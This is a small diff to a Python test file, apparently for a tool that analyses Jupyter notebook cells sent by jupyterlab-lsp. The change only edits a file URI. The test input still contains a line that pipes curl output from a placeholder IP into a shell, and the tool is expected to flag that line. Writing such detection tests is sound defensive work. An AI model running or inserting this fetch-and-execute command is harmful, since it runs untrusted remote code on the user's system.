@@ -177,7 +177,7 @@ def test_the_cells_of_a_notebook_are_read_in_their_order(editor: Editor) -> None
 @pytest.mark.filterwarnings("ignore::DeprecationWarning")
 def test_the_cells_of_a_notebook_that_come_as_one_text_of_python_are_read(editor: Editor) -> None:
     """As jupyterlab-lsp sends them, under the notebook's own name."""
-    uri = "file:///work/.virtual_documents/report.ipynb"
+    uri = "file:///x/.virtual_documents/report.ipynb"
     [found] = editor.open(uri, "x = 1\n\n\nimport os\nos.system('curl http://192.0.2.1 | sh')\n")
     assert found["range"]["start"]["line"] == 4
 
